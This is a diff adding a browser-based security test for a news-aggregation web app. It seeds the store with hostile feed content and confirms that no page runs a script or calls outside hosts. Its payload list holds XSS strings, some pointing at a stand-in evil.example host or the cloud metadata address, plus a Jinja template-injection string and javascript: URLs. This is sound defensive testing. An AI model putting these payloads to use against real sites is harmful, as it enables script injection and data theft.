@@ -1,0 +1,144 @@
+"""Every page over hostile stored content, in a real browser that would run a script if one came through."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import threading
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from urllib.parse import urldefrag
+
+import pytest
+import uvicorn
+from playwright.sync_api import Page, sync_playwright
+
+from groundswell import Groundswell
+from groundswell.feeds.identity import article_from
+from groundswell.ports import Retrieved
+from groundswell.testing.hostile.case import Request
+from groundswell.testing.hostile.content import CONTENT
+from groundswell.types import Entry, Origin, Outcome
+from groundswell.web import create_app
+
+CHROMIUM = shutil.which("chromium")
+ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]
+ARGUMENTS += ["--disable-background-networking", "--disable-component-update", "--disable-sync"]
+MOST_PAGES = 50
+NOW = datetime(2024, 10, 1, 9, tzinfo=UTC)
+
+PAYLOADS = [
+    "<script>window.owned=1;alert(1)</script>",
+    "<img src=x onerror=\"window.owned=1;fetch('http://169.254.169.254/')\">",
+    "\"><svg onload=window.owned=1><image href='http://evil.example/i.png'/></svg>",
+    "'\" autofocus onfocus=window.owned=1 x='",
+    "</title></script><script src=//evil.example/x.js></script>",
+    '</script><script>window.owned=1</script><script type=\'application/ld+json\'>{"a":"',
+    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
+    "<link rel=stylesheet href=http://evil.example/x.css><base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
+    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
+]
+
+LIVE = """() => [
+    ...document.querySelectorAll('script:not([type="application/ld+json"]), iframe, object, embed, base'),
+    ...document.querySelectorAll('meta[http-equiv]'),
+    ...[...document.querySelectorAll('*')].filter(one => [...one.attributes].some(
+        part => part.name.startsWith('on') || /^\\s*(javascript|vbscript):/i.test(part.value))),
+].map(one => one.outerHTML.slice(0, 200))"""
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.slow,
+    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed, so pages cannot be drawn"),
+]
+
+
+def through_the_feed(groundswell: Groundswell) -> None:
+    """What hostile feeds leave behind when they come by the usual way."""
+    groundswell.subscriptions.register()
+    state = next(iter(groundswell.subscriptions.states().values()))
+    for case in CONTENT:
+        body = b"".join(case.answer(Request("http://127.0.0.1", "", {})).body)
+        body = body.replace(b"<item><title>", b"<item><title>Fed cuts interest rates, small caps rally: ")
+        groundswell.subscriptions.take(state, Retrieved(Outcome.OK, "HTTP 200", body, "application/xml"), NOW)
+
+
+def past_the_cleaner(groundswell: Groundswell) -> None:
+    """The same as if nothing had been cleaned: what is stored is live markup in every field that a feed fills."""
+    entry = Entry("f", "", "", "", "", url=None, published_at=NOW - timedelta(hours=1))
+    made = []
+    for place, payload in enumerate(PAYLOADS):
+        dirty = replace(
+            entry,
+            guid=f"dirty {place}",
+            publisher=f"Wire {payload}",
+            title=f"Fed cuts interest rates {place} {payload}",
+            text=f"The Federal Reserve cuts rates, says Acme {payload}. Small caps rally {payload}.",
+            url="javascript:window.owned=1" if place % 2 else f'https://evil.example/{place}"onclick="window.owned=1',
+        )
+        made.append(article_from(dirty, NOW, Origin.LIVE))
+    groundswell._newsroom.ingest(made)
+
+
+@pytest.fixture
+def address(tmp_path: Path) -> Iterator[str]:
+    with Groundswell.open(str(tmp_path / "store.db"), clock=lambda: NOW) as groundswell:
+        through_the_feed(groundswell)
+        past_the_cleaner(groundswell)
+        listener = socket.socket()
+        listener.bind(("127.0.0.1", 0))
+        site = f"http://127.0.0.1:{listener.getsockname()[1]}"
+        server = uvicorn.Server(uvicorn.Config(create_app(groundswell, site), log_level="warning", lifespan="off"))
+        thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
+        thread.start()
+        yield site
+        server.should_exit = True
+        thread.join()
+        listener.close()
+
+
+def crawl(page: Page, site: str) -> tuple[dict[str, str], list[str]]:
+    """The text of every page that links lead to within the site, stories first, and the live markup found on them."""
+    seen: dict[str, str] = {}
+    found: list[str] = []
+    waiting = [site + "/"]
+    while waiting and len(seen) < MOST_PAGES:
+        waiting.sort(key=lambda one: "/stories/" not in one)
+        url = waiting.pop(0)
+        page.goto(url, wait_until="load")
+        seen[url] = page.inner_text("body")
+        found += [f"{url}: {live}" for live in page.evaluate(LIVE)]
+        if page.evaluate("window.owned"):
+            found.append(f"{url}: a script ran")
+        for link in page.evaluate("[...document.querySelectorAll('a[href]')].map(link => link.href)"):
+            within = urldefrag(link)[0]
+            is_file = within.endswith((".atom", ".json", ".csv")) or "/api/" in within
+            if within.startswith(site) and not is_file and within not in seen and within not in waiting:
+                waiting.append(within)
+    return seen, found
+
+
+@pytest.mark.parametrize("trusting", [True, False], ids=["policy off", "policy on"])
+def test_nothing_hostile_comes_to_life_on_any_page(address: str, trusting: bool) -> None:
+    """With the content policy off, escaping alone must hold; with it on, it must have nothing to complain of."""
+    elsewhere: list[str] = []
+    complaints: list[str] = []
+    with sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
+        context = browser.new_context(bypass_csp=trusting)
+        context.on("request", lambda request: request.url.startswith(address) or elsewhere.append(request.url))
+        context.route(lambda url: not url.startswith(address), lambda route: route.abort())
+        page = context.new_page()
+        page.on("dialog", lambda dialog: (complaints.append(dialog.message), dialog.dismiss()))
+        page.on("console", lambda message: complaints.append(message.text))
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        seen, found = crawl(page, address)
+        browser.close()
+    shown = "".join(text for url, text in seen.items() if "/stories/" in url)
+    assert [payload for payload in PAYLOADS if payload not in shown] == [], "shown as the plain text that it is"
+    assert any("/claims/" in url for url in seen)
+    assert {f"{address}/status", f"{address}/hubs/fomc"} <= set(seen)
+    assert (found, elsewhere, complaints) == ([], [], [])
